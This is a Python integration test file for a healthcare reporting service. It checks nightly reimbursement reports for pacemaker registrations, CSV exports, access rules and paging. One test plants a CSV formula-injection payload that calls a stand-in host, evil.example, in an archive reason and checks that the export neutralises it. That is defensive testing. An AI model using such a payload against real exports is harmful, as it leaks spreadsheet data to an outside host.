"""The nightly report (reconciled with registrations over gRPC) and the NIPPIN Manager's
export: results valid / invalid / not_found / not_sent, kept per night, exported as CSV for
a range of implant dates; only the NIPPIN Manager of the organisation gets in."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import delete, select

from hdhub.common.db import utcnow
from hdhub.nippin.store import MessageTransition, NippinMessage, Report, ReportRow
from hdhub.nippin.worker import nightly_reports
from services.nippin.tests.integration.support import (
    MANAGER,
    NURSE,
    ORG,
    implant,
    message_in,
    mycarenet,
    submit,
    until,
)
from tests.support.stack import Stack


async def _records(stack: Stack, **params: str) -> dict[str, dict[str, object]]:
    r = await stack.client.get(
        f"/api/v1/nippin/{ORG}/registries/PACEMAKER/records",
        params={"limit": 1000, **params},
        headers=await stack.headers(MANAGER),
    )
    assert r.status_code == 200, r.text
    assert r.json()["report"] is not None and r.json()["records"]["limit"] == 1000
    return {row["registration_id"]: row for row in r.json()["records"]["items"]}


async def test_the_report_gives_each_reimbursed_registration_its_result(stack: Stack) -> None:
    headers = await stack.headers(MANAGER)
    async with mycarenet(stack, "accept"):
        sent = await submit(stack, implant())
        await message_in(stack, sent["id"], "SENT")
    invalid = await submit(stack, implant(IDC_PAT="", TX_PAT_LAST_NAME="Maes", TX_PAT_FIRST_NAME="Lien"))
    await message_in(stack, invalid["id"], "INVALID")
    async with mycarenet(stack, "down", retry_first_seconds=3600.0):
        unsent = await submit(stack, implant())
        await message_in(stack, unsent["id"], "ERROR")
    lost = await submit(stack, implant())
    await message_in(stack, lost["id"], "TO_SEND", "SENT", "ERROR")
    # The hand-over of `lost` is lost: nippin has no trace of it, only registrations knows.
    lost_message = await _message_id(stack, lost["id"])
    async with stack.service("nippin").db.system_session() as session:
        await session.execute(delete(MessageTransition).where(MessageTransition.message_id == lost_message))
        await session.execute(delete(NippinMessage).where(NippinMessage.id == lost_message))
    skipped = await submit(stack, implant(CD_REIMBURSEMENT="no"))

    r = await stack.client.post(f"/api/v1/nippin/{ORG}/reports", headers=headers)
    assert r.status_code == 201, r.text
    night = r.json()["night"]
    records = await _records(stack)
    assert records[sent["id"]]["result"] == "valid"
    assert records[sent["id"]]["message_status"] == "SENT"
    assert records[invalid["id"]]["result"] == "invalid"
    assert "PatientSSIN" in str(records[invalid["id"]]["reason"])
    assert records[unsent["id"]]["result"] == "not_sent"
    assert records[unsent["id"]]["reason"] == "MyCareNet answered HTTP 503"
    assert records[lost["id"]]["result"] == "not_found"
    assert records[lost["id"]]["message_id"] is None
    assert records[lost["id"]]["implant_date"] is not None  # from registrations' bound values
    assert skipped["id"] not in records
    assert set(await _records(stack, result="not_found")) >= {lost["id"]}

    kept = await stack.client.get(f"/api/v1/nippin/{ORG}/reports", headers=headers)
    assert night in [k["night"] for k in kept.json()["items"]]
    one = await stack.client.get(
        f"/api/v1/nippin/{ORG}/reports/{night}", params={"limit": 1000}, headers=headers
    )
    assert one.json()["report"]["counts"]["not_found"] >= 1
    assert one.json()["records"]["total"] == sum(one.json()["report"]["counts"].values())

    # The export: a range of implant dates, as a job; the CSV once ready.
    dates = sorted(
        str(records[i]["implant_date"]) for i in (sent["id"], invalid["id"], unsent["id"], lost["id"])
    )
    r = await stack.client.post(
        f"/api/v1/nippin/{ORG}/exports",
        json={"dcd_code": "PACEMAKER", "date_from": dates[0], "date_to": dates[-1]},
        headers=headers,
    )
    assert r.status_code == 202, r.text
    export_id = r.json()["id"]

    async def ready() -> dict[str, object] | None:
        got = (await stack.client.get(f"/api/v1/nippin/{ORG}/exports/{export_id}", headers=headers)).json()
        return got if got["state"] == "ready" else None

    done = await until(ready, stack=stack)
    listed = (await stack.client.get(f"/api/v1/nippin/{ORG}/exports", headers=headers)).json()
    assert listed["items"][0]["id"] == export_id and listed["total"] >= 1  # newest first
    download = await stack.client.get(str(done["download"]), headers=headers)
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(download.text), delimiter=";"))
    assert "patient_ssin" not in rows[0]
    by_id = {row["message_id"]: row for row in rows}
    results = {row["result"] for row in rows}
    assert {"valid", "invalid", "not_sent", "not_found"} <= results
    assert all(dates[0] <= row["implant_date"] <= dates[-1] for row in rows)
    assert "" in by_id  # the not_found row has no message


async def test_an_organisation_without_any_message_is_reported_with_its_not_found(stack: Stack) -> None:
    """The nightly run reports every organisation registrations knows reimbursed
    registrations of, even one of which nippin has never heard (every hand-over lost)."""
    nippin = stack.service("nippin")
    r = await stack.client.post(
        "/api/v1/registrations",
        json={"organisation_id": "lab-demo", "dcd": "PACEMAKER", "values": implant(), "submit": True},
        headers=await stack.headers("biologist@lab-demo.test"),
    )
    assert r.status_code in (200, 201, 202), r.text
    registration_id = r.json()["id"]

    async def made() -> bool:
        async with nippin.db.system_session() as session:
            found = await session.execute(
                select(NippinMessage.id).where(NippinMessage.registration_id == registration_id)
            )
            return found.first() is not None

    await until(made, stack=stack)
    async with nippin.db.system_session() as session:  # lost: lab-demo has no message at all
        lab = select(NippinMessage.id).where(NippinMessage.organisation_id == "lab-demo")
        await session.execute(delete(MessageTransition).where(MessageTransition.message_id.in_(lab)))
        await session.execute(delete(NippinMessage).where(NippinMessage.organisation_id == "lab-demo"))

    night = date(2031, 1, 2)
    await nightly_reports(nippin, night.isoformat())
    async with nippin.db.system_session() as session:
        report = (
            await session.execute(
                select(Report).where(Report.organisation_id == "lab-demo", Report.night == night)
            )
        ).scalar_one()
        row = (
            await session.execute(
                select(ReportRow).where(
                    ReportRow.report_id == report.id, ReportRow.registration_id == registration_id
                )
            )
        ).scalar_one()
    assert row.result == "not_found" and row.message_id is None
    assert report.counts["not_found"] >= 1


async def _message_id(stack: Stack, registration_id: str) -> str:
    r = await stack.client.get(
        f"/api/v1/nippin/{ORG}/messages",
        params={"registration_id": registration_id},
        headers=await stack.headers(MANAGER),
    )
    return str(r.json()["items"][0]["id"])


async def test_a_nominative_export_needs_the_right_to_read_registrations(stack: Stack) -> None:
    r = await stack.client.post(
        f"/api/v1/nippin/{ORG}/exports",
        json={
            "dcd_code": "PACEMAKER",
            "date_from": "2025-01-01",
            "date_to": "2025-12-31",
            "nominative": True,
        },
        headers=await stack.headers(MANAGER),
    )
    assert r.status_code == 403
    assert r.json()["type"].endswith("nominative-export-forbidden")


async def test_an_export_range_that_ends_before_it_starts_is_refused(stack: Stack) -> None:
    r = await stack.client.post(
        f"/api/v1/nippin/{ORG}/exports",
        json={"dcd_code": "PACEMAKER", "date_from": "2025-12-31", "date_to": "2025-01-01"},
        headers=await stack.headers(MANAGER),
    )
    assert r.status_code == 422
    assert "the end date is before the start date" in r.text


async def test_only_the_organisations_nippin_manager_gets_in(stack: Stack) -> None:
    for who, org in ((NURSE, ORG), (MANAGER, "lab-demo"), ("manager@az-demo.test", ORG)):
        r = await stack.client.get(f"/api/v1/nippin/{org}/messages", headers=await stack.headers(who))
        assert r.status_code == 403, (who, org)


async def test_the_reimbursed_registries_are_listed(stack: Stack) -> None:
    r = await stack.client.get(f"/api/v1/nippin/{ORG}/registries", headers=await stack.headers(MANAGER))
    assert r.status_code == 200, r.text
    assert [d["dcd_code"] for d in r.json()["items"]] == ["PACEMAKER"] and r.json()["total"] == 1
    assert r.json()["items"][0]["labels"]["en"] == "Pacemaker implant"


async def test_an_export_cell_that_would_be_a_formula_is_neutralised(stack: Stack) -> None:
    headers = await stack.headers(MANAGER)
    reg = await submit(stack, implant(IDC_PAT="", TX_PAT_LAST_NAME="Claes", TX_PAT_FIRST_NAME="Bo"))
    message = await message_in(stack, reg["id"], "INVALID")
    reason = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    r = await stack.client.post(
        f"/api/v1/nippin/{ORG}/messages/{message['id']}/archive", json={"reason": reason}, headers=headers
    )
    assert r.status_code == 200, r.text
    assert (await stack.client.post(f"/api/v1/nippin/{ORG}/reports", headers=headers)).status_code == 201
    day = (await _records(stack))[reg["id"]]["implant_date"]
    r = await stack.client.post(
        f"/api/v1/nippin/{ORG}/exports",
        json={"dcd_code": "PACEMAKER", "date_from": day, "date_to": day},
        headers=headers,
    )
    export_id = r.json()["id"]

    async def ready() -> dict[str, object] | None:
        got = (await stack.client.get(f"/api/v1/nippin/{ORG}/exports/{export_id}", headers=headers)).json()
        return got if got["state"] == "ready" else None

    done = await until(ready, stack=stack)
    text = (await stack.client.get(str(done["download"]), headers=headers)).text
    row = next(
        r for r in csv.DictReader(io.StringIO(text), delimiter=";") if r["message_id"] == message["id"]
    )
    assert row["result"] == "invalid" and row["nippin_status"] == "ARCHIVED"
    assert row["reason"] == "'" + reason


async def test_the_reconciliation_pages_through_every_registration(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hdhub.nippin import reports
    from hdhub.registrations.delivery import reconciliation

    async def listed() -> list[str]:
        return [
            i
            for batch in [b async for b in reports.reimbursed_registrations(ORG)]
            for i in batch["registration_id"].to_pylist()
        ]

    await submit(stack, implant())
    await submit(stack, implant())
    whole = await listed()
    monkeypatch.setattr(reconciliation, "PAGE_ROWS", 2)  # many pages, streamed one after another
    paged = await listed()
    assert len(whole) >= 2 and sorted(paged) == sorted(whole)
    report = await reports.build(stack.service("nippin").db, ORG, utcnow().date())
    assert sum(report.counts.values()) <= len(whole)
